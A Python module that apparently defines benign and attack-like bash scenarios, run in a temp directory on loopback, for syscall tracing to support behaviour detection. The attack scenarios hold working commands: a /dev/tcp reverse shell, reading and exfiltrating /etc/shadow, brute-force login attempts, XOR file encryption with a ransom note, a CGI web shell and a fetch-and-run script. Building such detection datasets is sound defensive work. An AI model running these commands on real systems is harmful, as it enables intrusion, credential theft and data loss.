"""The scenario suite: short benign workloads and attack-like behaviour, run on this machine in a
throwaway directory, loopback only, and recorded with the foundation's tracer (syscalls).

Each scenario is a bash script; {dir} is its private temp dir, {py} this Python, {port} a free
loopback port and {n} a per-repetition size, so repetitions differ a little."""
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Scenario:
    name: str
    kind: str      # "benign" or "attack"
    script: str
    needs_root: bool = False


_HTTP_UP = "for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && break; sleep 0.05; done\n"

BENIGN = [
    Scenario("gcc_build", "benign", r"""cd {dir}
for i in $(seq {n}); do printf 'int f%d(int x){{return x*%d;}}\n' $i $i > f$i.c; done
printf '#include <stdio.h>\nint f1(int);\nint main(void){{printf("%%d\\n", f1(2));return 0;}}\n' > main.c
gcc -O1 -c *.c && gcc -o prog *.o && ./prog >/dev/null
"""),
    Scenario("python_tests", "benign", r"""cd {dir}
cat > test_k.py <<'PYEOF'
import unittest, json, re
class T(unittest.TestCase):
    def test_json(self): self.assertEqual(json.loads(json.dumps({{"a": [1, 2]}})), {{"a": [1, 2]}})
    def test_re(self): self.assertTrue(re.match(r"\d+", "123"))
    def test_sum(self): self.assertEqual(sum(range({n} * 100)), ({n} * 100) * ({n} * 100 - 1) // 2)
PYEOF
{py} -m unittest -q test_k 2>/dev/null
"""),
    Scenario("git", "benign", r"""cd {dir} && git init -q r && cd r
git config user.email k@p.local && git config user.name kp
for i in $(seq {n}); do echo "line $i" >> f.txt; git add f.txt; git commit -qm "c$i"; done
git log --oneline >/dev/null; git diff HEAD~1 >/dev/null; git branch b; git status --short >/dev/null
"""),
    Scenario("sqlite", "benign", r"""cd {dir}
{{ echo "create table t(a integer, b text);"; for i in $(seq $(({n} * 40))); do echo "insert into t values($i, 'row$i');"; done; }} > in.sql
sqlite3 db.sqlite < in.sql && sqlite3 db.sqlite "select count(*), sum(a) from t where b like 'row1%';" >/dev/null
"""),
    Scenario("tar_gzip", "benign", r"""cd {dir} && mkdir -p tree/a tree/b out
for i in $(seq $(({n} * 8))); do head -c 4096 /dev/urandom > tree/a/f$i; echo "text $i" > tree/b/t$i; done
tar czf t.tgz tree && tar xzf t.tgz -C out && gzip -k tree/b/t1 && gunzip -f tree/b/t1.gz
"""),
    Scenario("http_server", "benign", r"""cd {dir} && head -c 20000 /dev/urandom > page.bin && echo hello > index.html
{py} -m http.server --bind 127.0.0.1 {port} >/dev/null 2>&1 &
""" + _HTTP_UP + r"""for i in $(seq $(({n} * 4))); do curl -s http://127.0.0.1:{port}/index.html >/dev/null; curl -s http://127.0.0.1:{port}/page.bin >/dev/null; done
kill %1; wait
"""),
    Scenario("shell_utils", "benign", r"""cd {dir}
find /usr/include -maxdepth 1 -name '*.h' | head -$(({n} * 20)) | xargs grep -l define | sort > list.txt
wc -l list.txt >/dev/null; sed 's/\.h$//' list.txt | sort -r | uniq > names.txt; ls -la > /dev/null
"""),
]

ATTACKS = [
    Scenario("reverse_shell", "attack", r"""cd {dir}
{py} -c "
import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', {port})); s.listen(1); c, _ = s.accept()
c.sendall(b'id; uname -a; cat /etc/hostname; ls /; exit\n'); c.settimeout(3)
try:
    while c.recv(4096): pass
except OSError: pass
" &
sleep 0.3
bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' 2>/dev/null
wait
"""),
    Scenario("read_shadow", "attack", r"""cd {dir}
{py} -c "
import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', {port})); s.listen(1); c, _ = s.accept()
while c.recv(4096): pass
" &
cat /etc/shadow /etc/passwd > loot 2>/dev/null; grep -h ':\$' /etc/shadow > hashes 2>/dev/null
ls -la /root/.ssh 2>/dev/null; base64 loot > loot.b64; sleep 0.2
bash -c 'cat loot.b64 > /dev/tcp/127.0.0.1/{port}'
wait
""", needs_root=True),
    Scenario("useradd_ns", "attack", r"""cd {dir} && mkdir -p etc && cp -a /etc/passwd /etc/shadow /etc/group /etc/gshadow /etc/login.defs etc/ 2>/dev/null
unshare --mount --propagation private bash -c 'set -e; mount --bind {dir}/etc {dir}/etc
useradd --prefix {dir} -M -s /bin/bash kpevil{n}; grep -q kpevil{n} {dir}/etc/passwd'
""", needs_root=True),
    Scenario("brute_force", "attack", r"""cd {dir}
{py} -c "
import socket, hashlib; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', {port})); s.listen(16)
for _ in range(60):
    c, _ = s.accept(); line = c.makefile().readline().strip()
    ok = hashlib.sha256(line.encode()).hexdigest() == '0' * 64
    c.sendall(b'OK\n' if ok else b'FAIL\n'); c.close()
" &
sleep 0.3
for p in $(seq 60); do exec 3<>/dev/tcp/127.0.0.1/{port} || break; echo "root:pass$p" >&3; read -r r <&3; exec 3>&-; done
wait
"""),
    Scenario("ransomware", "attack", r"""cd {dir} && mkdir -p docs
for i in $(seq $(({n} * 15))); do head -c 3000 /dev/urandom > docs/doc$i.txt; done
{py} -c "
import os
key = os.urandom(32)
for root, _, files in os.walk('docs'):
    for f in files:
        p = os.path.join(root, f)
        with open(p, 'rb') as fh: data = fh.read()
        with open(p + '.locked', 'wb') as fh: fh.write(bytes(b ^ key[i % 32] for i, b in enumerate(data)))
        os.rename(p + '.locked', p + '.enc'); os.unlink(p)
open('README_RESTORE.txt', 'w').write('pay up')
"
"""),
    Scenario("webshell", "attack", r"""cd {dir} && mkdir -p cgi-bin
printf '#!/bin/sh\necho "Content-Type: text/plain"\necho\nid; uname -a; cat /etc/passwd | head -3; ls /tmp\n' > cgi-bin/sh.cgi
chmod +x cgi-bin/sh.cgi
{py} -c "
import http.server, sys
http.server.test(HandlerClass=http.server.CGIHTTPRequestHandler, bind='127.0.0.1', port={port})
" >/dev/null 2>&1 &
""" + _HTTP_UP + r"""curl -s http://127.0.0.1:{port}/cgi-bin/sh.cgi >/dev/null; curl -s http://127.0.0.1:{port}/cgi-bin/sh.cgi >/dev/null
kill %1; wait
"""),
    Scenario("miner", "attack", r"""cd {dir} && mkdir -p srv
printf 'import hashlib, time\nt = time.time(); h = b"x"\nwhile time.time() - t < 1.0:\n    h = hashlib.sha256(h).digest()\n' > srv/m.py
{py} -m http.server --bind 127.0.0.1 {port} -d srv >/dev/null 2>&1 &
""" + _HTTP_UP + r"""curl -s http://127.0.0.1:{port}/m.py -o /tmp/.kp_m_{port}.py; kill %1; wait
{py} /tmp/.kp_m_{port}.py; rm -f /tmp/.kp_m_{port}.py
"""),
]

SCENARIOS = {s.name: s for s in BENIGN + ATTACKS}
